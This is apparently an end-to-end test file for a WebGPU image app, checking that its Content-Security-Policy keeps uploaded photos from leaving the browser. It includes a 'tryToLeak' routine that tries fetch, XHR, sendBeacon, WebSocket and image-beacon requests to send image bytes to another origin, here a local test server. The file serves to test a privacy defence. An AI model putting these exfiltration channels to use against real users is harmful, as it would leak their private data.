// Privacy by construction (issue 17 §4): the built app, served as `npm start` serves it
// (vite preview, with the Content-Security-Policy header of src/app/csp.ts), in Chromium
// with WebGPU. Every request of the browser context is recorded, workers' included; a
// sample generated to "done" with a picture loaded must send nothing to another origin
// and no request body may hold image bytes. The policy itself is checked by trying to
// reach another origin from the page and from every worker, and the recorder by a run
// with the policy bypassed, which it must catch.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { preview, type PreviewServer } from 'vite';
import type { Browser, BrowserContext, Page, Request } from 'playwright-core';
import { askForWebGPU, backendOf, buildApp, freePort, launch, LONG_TASK_PROBE, repoRoot, screenshot, waitForStatus, whenEnabled } from './harness';
import { CSP, CSP_HEADER } from '../src/app/csp';
import { encodePng } from '../src/io/png';

const testid = (id: string) => `[data-testid="${id}"]`;

interface Recorded {
  url: string;
  method: string;
  /** the request body, null when there is none (or Playwright could not read it) */
  body: Buffer | null;
}

const IMAGE_MAGIC: [string, Buffer][] = [
  ['PNG', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])],
  ['JPEG', Buffer.from([0xff, 0xd8, 0xff])],
  ['GIF', Buffer.from('GIF8')],
  ['WebP', Buffer.from('WEBPVP8')],
  // the same pictures base64-encoded (a data: URL or JSON carrying one)
  ['PNG (base64)', Buffer.from('iVBORw0KGgo')],
  ['JPEG (base64)', Buffer.from('/9j/')],
];

/** Why a recorded request breaks the privacy rule, or undefined if it does not. */
function violation(r: Recorded, origin: string): string | undefined {
  const u = new URL(r.url);
  // data: and blob: URLs are made and read inside the page: nothing leaves it
  if (u.protocol !== 'data:' && u.protocol !== 'blob:' && u.origin !== origin) return `${r.method} ${r.url}: another origin`;
  const inUrl = IMAGE_MAGIC.find(([, m]) => u.protocol !== 'data:' && u.protocol !== 'blob:' && Buffer.from(r.url).includes(m));
  if (inUrl) return `${r.method} ${r.url.slice(0, 80)}: ${inUrl[0]} bytes in the URL`;
  if (r.body) {
    const hit = IMAGE_MAGIC.find(([, m]) => r.body!.includes(m));
    if (hit) return `${r.method} ${r.url}: ${hit[0]} bytes in the body (${r.body.length} bytes)`;
  } else if (r.method !== 'GET' && r.method !== 'HEAD' && r.method !== 'OPTIONS') {
    return `${r.method} ${r.url}: a body the test cannot read`;
  }
  return undefined;
}

function record(context: BrowserContext): Recorded[] {
  const seen: Recorded[] = [];
  context.on('request', (r: Request) => {
    seen.push({ url: r.url(), method: r.method(), body: r.postDataBuffer() });
  });
  return seen;
}

/** Console errors of the page and of every worker (CSP violations are reported there). */
function collectErrors(page: Page): string[] {
  const errors: string[] = [];
  page.on('console', (m) => {
    if (m.type() === 'error') errors.push(m.text());
  });
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('worker', (w) =>
    w.on('console', (m) => {
      if (m.type() === 'error') errors.push(`worker ${w.url()}: ${m.text()}`);
    }),
  );
  return errors;
}

/** A picture a user might load: a 64x64 RGB gradient with a bright disc, as PNG. */
function photoPng(): Buffer {
  const w = 64;
  const px = new Uint8Array(w * w * 3);
  for (let y = 0; y < w; y++) {
    for (let x = 0; x < w; x++) {
      const disc = (x - 32) ** 2 + (y - 30) ** 2 < 300 ? 200 : 0;
      px.set([Math.min(255, 30 + x + disc), Math.min(255, 20 + y + disc), Math.min(255, 60 + disc)], (y * w + x) * 3);
    }
  }
  return Buffer.from(encodePng(px, w, w, 3));
}

let dir: string;
let app: PreviewServer;
let origin: string;
/** Another origin on this machine: counts every request that reaches it. */
let other: http.Server;
let otherUrl: string;
const otherHits: string[] = [];
let browser: Browser;

beforeAll(async () => {
  dir = await buildApp();
  const port = await freePort();
  app = await preview({
    root: repoRoot,
    logLevel: 'error',
    build: { outDir: dir },
    preview: { host: '127.0.0.1', port, strictPort: true },
  });
  origin = `http://127.0.0.1:${port}`;
  other = http.createServer((req, res) => {
    otherHits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/plain' }).end('ok');
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  otherUrl = `http://127.0.0.1:${(other.address() as net.AddressInfo).port}`;
  browser = await launch({ webgpu: true });
});

afterAll(async () => {
  await browser?.close();
  await app?.close();
  other?.closeAllConnections();
  await new Promise((resolve) => (other ? other.close(resolve) : resolve(undefined)));
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

async function openApp(context: BrowserContext, query: string): Promise<{ page: Page; errors: string[] }> {
  const page = await context.newPage();
  await page.setViewportSize({ width: 1200, height: 1000 });
  const errors = collectErrors(page);
  await page.addInitScript(LONG_TASK_PROBE);
  await page.goto(askForWebGPU(browser, `${origin}/?${query}`));
  return { page, errors };
}

/** Tries every way a script has to send bytes to `target`; resolves to what got through. */
const tryToLeak = async (target: string): Promise<string[]> => {
  const through: string[] = [];
  const bytes = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3]);
  try {
    await fetch(`${target}/leak-fetch`, { method: 'POST', body: bytes, mode: 'no-cors' });
    through.push('fetch');
  } catch {
    // refused
  }
  await new Promise<void>((resolve) => {
    const x = new XMLHttpRequest();
    x.onload = () => {
      through.push('xhr');
      resolve();
    };
    x.onerror = () => resolve();
    try {
      x.open('POST', `${target}/leak-xhr`);
      x.send(bytes);
    } catch {
      resolve();
    }
  });
  if (typeof navigator.sendBeacon === 'function') {
    try {
      // returns true once queued, even when the policy refuses it later: the other
      // server's log tells whether it went out
      navigator.sendBeacon(`${target}/leak-beacon`, bytes);
    } catch {
      // refused
    }
  }
  await new Promise<void>((resolve) => {
    try {
      const ws = new WebSocket(`${target.replace('http', 'ws')}/leak-ws`);
      ws.onopen = () => {
        through.push('websocket');
        resolve();
      };
      ws.onerror = () => resolve();
    } catch {
      resolve();
    }
  });
  if (typeof Image !== 'undefined') {
    await new Promise<void>((resolve) => {
      const img = new Image();
      img.onload = img.onerror = () => resolve();
      img.src = `${target}/leak-img?data=iVBORw0KGgo`;
      setTimeout(resolve, 2000);
    });
  }
  return through;
};

describe('privacy: the photo never leaves the browser', () => {
  it('the built page carries the policy as a <meta> and the server sends it as a header on every response', async () => {
    const html = fs.readFileSync(path.join(dir, 'index.html'), 'utf8');
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1]?.replaceAll('&#39;', "'");
    expect(meta).toBe(CSP);
    // the meta comes before any script, so it binds all of them
    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<script'));
    const assets = fs.readdirSync(path.join(dir, 'assets'));
    const worker = assets.find((f) => /worker.*\.js$/.test(f));
    expect(worker, assets.join(', ')).toBeDefined();
    for (const p of ['/', `/assets/${worker}`, '/tfjs-wasm/tfjs-backend-wasm-simd.wasm', '/models/index.json']) {
      const res = await fetch(`${origin}${p}`);
      expect(res.status, p).toBe(200);
      expect(res.headers.get('content-security-policy'), p).toBe(CSP_HEADER);
    }
    expect(CSP).toMatch(/(^|; )connect-src 'self'(;|$)/);
    expect(CSP).toMatch(/(^|; )default-src 'self'(;|$)/);
  });

  it('loading a picture and generating a sample to "done" sends nothing to another origin and no image bytes', async () => {
    const context = await browser.newContext();
    const seen = record(context);
    const { page, errors } = await openApp(context, 'model=random-tiny&n=4&speed=0&seed=3');
    expect(await backendOf(page), errors.join('\n')).toBe('webgpu');
    // a picture in the page: the drawing tools read it (the face panel's photo will be read the same way)
    await whenEnabled(page, 'draw-file');
    await page.locator(testid('draw-file')).setInputFiles({ name: 'me.png', mimeType: 'image/png', buffer: photoPng() });
    await page.click(testid('class-3'));
    await waitForStatus(page, 'done', 120_000);
    // give the scoring worker time to finish with the picture too
    await page.waitForTimeout(1000);
    await screenshot(page, 'privacy-01-done');
    const bad = seen.map((r) => violation(r, origin)).filter((v) => v !== undefined);
    expect(bad).toEqual([]);
    expect(otherHits).toEqual([]);
    // the recorder saw the workers' own traffic too (only the scoring worker fetches tfjs's .wasm)
    expect(seen.some((r) => r.url.includes('/tfjs-wasm/')), seen.map((r) => r.url).join('\n')).toBe(true);
    expect(seen.some((r) => /worker.*\.js$/.test(r.url))).toBe(true);
    // and the policy blocked nothing the app needs
    expect(errors.filter((e) => /Content.Security.Policy|Refused to/i.test(e))).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  }, 300_000);

  it("a photo through the face panel (face-api's worker) sends nothing to another origin and no image bytes; that worker is refused another origin too", async () => {
    const context = await browser.newContext();
    const seen = record(context);
    const { page, errors } = await openApp(context, 'model=random-faces-tiny&n=1&speed=0&guidance=0');
    expect(await backendOf(page), errors.join('\n')).toBe('webgpu');
    const photo = fs.readFileSync(path.join(repoRoot, 'node_modules/@vladmandic/face-api/demo/sample1.jpg'));
    await page.locator(testid('photo-file')).setInputFiles({ name: 'me.jpg', mimeType: 'image/jpeg', buffer: photo });
    await page.waitForSelector(testid('face-crop'), { timeout: 180_000 });
    await waitForStatus(page, 'done', 120_000);
    await page.waitForSelector(testid('face-distance'), { timeout: 120_000 });
    await screenshot(page, 'privacy-02-photo');
    const bad = seen.map((r) => violation(r, origin)).filter((v) => v !== undefined);
    expect(bad).toEqual([]);
    expect(otherHits).toEqual([]);
    // face-api's weights came from the app itself, through the recorder
    expect(seen.some((r) => r.url === `${origin}/face-api/ssd_mobilenetv1_model.bin`), seen.map((r) => r.url).join('\n')).toBe(true);
    expect(errors.filter((e) => /Content.Security.Policy|Refused to/i.test(e))).toEqual([]);
    const faceWorker = page.workers().find((w) => /faceapi/.test(w.url()));
    expect(faceWorker, page.workers().map((w) => w.url()).join(', ')).toBeDefined();
    expect(await faceWorker!.evaluate(tryToLeak, otherUrl)).toEqual([]);
    await page.waitForTimeout(500);
    expect(otherHits).toEqual([]);
    await context.close();
  }, 480_000);

  it('the policy refuses requests to another origin from the page and from every worker', async () => {
    const context = await browser.newContext();
    const seen = record(context);
    const { page, errors } = await openApp(context, 'model=random-tiny&n=1&speed=0');
    expect(await backendOf(page)).toBe('webgpu');
    await page.waitForFunction(() => document.querySelector('[data-testid="status"]')?.textContent === 'idle');
    // same-origin requests work (so a refusal below is the policy, not a broken fetch)
    expect(await page.evaluate(async () => (await fetch('/models/index.json')).status)).toBe(200);
    // violations are reported as events, in the page and in workers
    const violationsIn = `self.__csp = []; self.addEventListener('securitypolicyviolation', (e) => self.__csp.push(e.violatedDirective + ' ' + e.blockedURI));`;
    await page.evaluate(violationsIn);
    const fromPage = await page.evaluate(tryToLeak, otherUrl);
    expect(fromPage).toEqual([]);
    const pageViolations = await page.evaluate(() => (self as unknown as { __csp: string[] }).__csp);
    expect(pageViolations.some((v) => v.startsWith('connect-src'))).toBe(true);
    expect(pageViolations.some((v) => v.startsWith('img-src'))).toBe(true);
    // the app's own workers; tfjs-wasm's pthread workers (blob: URLs, started by them) run
    // only tfjs's wasm, wait on a futex between jobs and answer no evaluate; they inherit
    // the policy of the worker that made them
    const workers = page.workers().filter((w) => !w.url().startsWith('blob:'));
    expect(workers.length).toBeGreaterThanOrEqual(2); // sampler and receptive field (and the scorer once ready)
    for (const w of workers) {
      expect(await w.evaluate(async () => (await fetch('/models/index.json')).status), w.url()).toBe(200);
      await w.evaluate(violationsIn);
      expect(await w.evaluate(tryToLeak, otherUrl), w.url()).toEqual([]);
      const wv = await w.evaluate(() => (self as unknown as { __csp: string[] }).__csp);
      expect(wv.some((v) => v.startsWith('connect-src')), `${w.url()}: ${wv.join(', ')}`).toBe(true);
    }
    // nothing reached the other origin. (Chromium still reports some refused attempts,
    // XHR's, as requests: the recorder of the test above would flag even a refused leak.)
    await page.waitForTimeout(500);
    expect(otherHits).toEqual([]);
    expect(seen.every((r) => r.url.startsWith(origin) || r.url.startsWith(otherUrl) || /^(data|blob):/.test(r.url))).toBe(true);
    expect(errors.some((e) => /Content Security Policy/i.test(e))).toBe(true); // Chromium reports each refusal
    await context.close();
  });

  it('self-check: with the policy bypassed, the recorder catches a picture sent to another origin or in a body', async () => {
    const context = await browser.newContext({ bypassCSP: true });
    const seen = record(context);
    const { page } = await openApp(context, 'model=random-tiny&n=1&speed=0');
    expect(await backendOf(page)).toBe('webgpu');
    const png = Array.from(photoPng().subarray(0, 64));
    await page.evaluate(
      async ({ target, png }) => {
        // the request goes out; cross-origin isolation (COEP) then refuses its opaque answer
        await fetch(`${target}/upload`, { method: 'POST', body: new Uint8Array(png), mode: 'no-cors' }).catch(() => undefined);
        // same origin, but a picture in the body
        await fetch('/models/index.json', { method: 'POST', body: new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 1, 2]) }).catch(() => undefined);
        // a Blob body, which Playwright cannot read: flagged as such
        await fetch('/models/index.json?blob', { method: 'PUT', body: new Blob([new Uint8Array(png)]) }).catch(() => undefined);
      },
      { target: otherUrl, png },
    );
    await page.waitForTimeout(300);
    const bad = seen.map((r) => violation(r, origin)).filter((v) => v !== undefined);
    expect(bad.some((v) => v.includes(`${otherUrl}/upload: another origin`)), bad.join('\n')).toBe(true);
    expect(bad.some((v) => v.includes('/models/index.json: JPEG bytes in the body')), bad.join('\n')).toBe(true);
    expect(bad.some((v) => v.includes('/models/index.json?blob: a body the test cannot read') || v.includes('/models/index.json?blob: PNG bytes in the body')), bad.join('\n')).toBe(true);
    expect(otherHits.splice(0)).toContain('POST /upload');
    // a picture in a same-origin URL is caught too
    expect(violation({ url: `${origin}/x?img=iVBORw0KGgoAAAA`, method: 'GET', body: null }, origin)).toMatch(/PNG \(base64\) bytes in the URL/);
    await context.close();
  });
});
